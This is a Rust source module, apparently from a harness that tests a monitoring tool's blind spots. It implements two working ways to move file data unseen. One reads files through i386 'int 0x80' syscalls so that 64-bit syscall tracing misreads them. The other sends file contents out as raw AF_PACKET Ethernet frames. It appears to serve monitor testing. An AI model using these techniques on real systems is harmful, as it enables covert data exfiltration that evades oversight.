//! The paths an attacker reaches for first (the visibility-holes issue):
//! each moves bytes the way the README's table does not list.

use std::{fs::File, io::Result, os::fd::AsRawFd};

use crate::{die, exfil::Sender, report, Args};

/// One i386 system call from this 64-bit process (`int $0x80`): number in
/// eax, arguments in ebx, ecx, edx. rbx is LLVM's, so it is swapped in.
#[cfg(target_arch = "x86_64")]
fn int80(nr: u32, a: u32, b: u32, c: u32) -> i32 {
    let ret: i32;
    // SAFETY: a system call on memory this process owns (the caller's
    // buffer is below 4 GiB); rbx is restored before the block ends.
    unsafe {
        std::arch::asm!(
            "xchg {a:r}, rbx",
            "int 0x80",
            "xchg {a:r}, rbx",
            a = inout(reg) a as u64 => _,
            inlateout("eax") nr => ret,
            in("ecx") b,
            in("edx") c,
        );
    }
    ret
}

#[cfg(not(target_arch = "x86_64"))]
fn int80(_nr: u32, _a: u32, _b: u32, _c: u32) -> i32 {
    die("the i386 ABI exists on x86-64 only")
}

/// i386 `read` and `lseek`.
const I386_READ: u32 = 3;
const I386_LSEEK: u32 = 19;

/// `read-i386 --file F [--bs N] [--lseeks K] [--to ADDR --mark-sent M]`:
/// read the file through the i386 ABI into a buffer mapped below 4 GiB
/// (MAP_32BIT); first K i386 `lseek`s of 1 MiB (i386 19, x86-64's readv:
/// a misread number would count them as reads); with `--to`, send what was
/// read (64-bit sends).
pub fn read_i386(a: &Args) -> Result<()> {
    let f = File::open(a.str("file"))?;
    let fd = f.as_raw_fd() as u32;
    let bs = a.num_or("bs", 1 << 20) as usize;
    // SAFETY: an anonymous private mapping, unmapped when done.
    let buf = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            bs,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT,
            -1,
            0,
        )
    };
    if buf == libc::MAP_FAILED {
        return Err(std::io::Error::last_os_error());
    }
    let mut seeks = 0u64;
    for _ in 0..a.num_or("lseeks", 0) {
        let r = int80(I386_LSEEK, fd, 1 << 20, libc::SEEK_SET as u32);
        if r < 0 {
            die(&format!("i386 lseek: errno {}", -r));
        }
        seeks += 1;
    }
    // Back to the start for the reads.
    if a.num_or("lseeks", 0) > 0 && int80(I386_LSEEK, fd, 0, libc::SEEK_SET as u32) != 0 {
        die("i386 lseek to 0 failed");
    }
    let mut out = a.opt("to").map(|_| Sender::open(a, "to")).transpose()?;
    let (mut read, mut calls) = (0u64, 0u64);
    loop {
        let r = int80(I386_READ, fd, buf as usize as u32, bs as u32);
        if r < 0 {
            die(&format!(
                "i386 read: errno {} (is the i386 ABI enabled: CONFIG_IA32_EMULATION, ia32_emulation=?)",
                -r
            ));
        }
        if r == 0 {
            break;
        }
        read += r as u64;
        calls += 1;
        if let Some(s) = &mut out {
            // SAFETY: the kernel filled `r` bytes of the mapping.
            let data = unsafe { std::slice::from_raw_parts(buf as *const u8, r as usize) };
            s.send(data)?;
        }
    }
    let (mut sent, mut crossed) = (0, 0);
    if let Some(s) = out {
        sent = s.sent;
        crossed = s.crossed_ms;
        s.finish()?;
    }
    // SAFETY: the mapping made above.
    unsafe { libc::munmap(buf, bs) };
    report(&[
        ("read_bytes", read),
        ("read_calls", calls),
        ("lseeks", seeks),
        ("sent_bytes", sent),
        ("crossed_ms", crossed),
    ]);
    Ok(())
}

/// `packet-send --ifname IF --file F [--chunk N] [--mark-sent M]`: read the
/// file, send it as raw Ethernet frames (`AF_PACKET`, EtherType 0x88b5,
/// local experimental) out of IF, N payload bytes a frame. Reports the
/// bytes the sends returned (payload and headers).
pub fn packet_send(a: &Args) -> Result<()> {
    use std::io::Read;
    let mut data = Vec::new();
    let read = File::open(a.str("file"))?.read_to_end(&mut data)? as u64;
    let chunk = a.num_or("chunk", 1400) as usize;
    let mark = a.num_or("mark-sent", u64::MAX);
    let ifname = std::ffi::CString::new(a.str("ifname")).unwrap_or_else(|_| die("bad --ifname"));
    // SAFETY: a NUL-terminated name.
    let ifindex = unsafe { libc::if_nametoindex(ifname.as_ptr()) };
    if ifindex == 0 {
        return Err(std::io::Error::last_os_error());
    }
    let proto = (0x88b5u16).to_be();
    // SAFETY: plain socket(2).
    let fd = crate::check(
        unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, proto as i32) } as isize,
    )? as i32;
    // SAFETY: an all-zero sockaddr_ll is valid; the fields are set below.
    let mut sll: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    sll.sll_family = libc::AF_PACKET as u16;
    sll.sll_protocol = proto;
    sll.sll_ifindex = ifindex as i32;
    sll.sll_halen = 6;
    sll.sll_addr[..6].copy_from_slice(&[0xff; 6]);
    let mut frame = vec![0u8; 14 + chunk];
    frame[..6].copy_from_slice(&[0xff; 6]);
    frame[6..12].copy_from_slice(&[0x02, 0, 0, 0, 0, 1]);
    frame[12..14].copy_from_slice(&0x88b5u16.to_be_bytes());
    let (mut sent, mut crossed) = (0u64, 0u64);
    for piece in data.chunks(chunk) {
        let n = 14 + piece.len();
        frame[14..n].copy_from_slice(piece);
        // SAFETY: a valid fd, frame and address.
        let r = unsafe {
            libc::sendto(
                fd,
                frame.as_ptr().cast(),
                n,
                0,
                (&raw const sll).cast(),
                std::mem::size_of::<libc::sockaddr_ll>() as u32,
            )
        };
        sent += crate::check(r)? as u64;
        if crossed == 0 && sent >= mark {
            crossed = crate::exfil::now_ms();
        }
    }
    // SAFETY: our socket.
    unsafe { libc::close(fd) };
    report(&[
        ("read_bytes", read),
        ("sent_bytes", sent),
        ("crossed_ms", crossed),
    ]);
    Ok(())
}
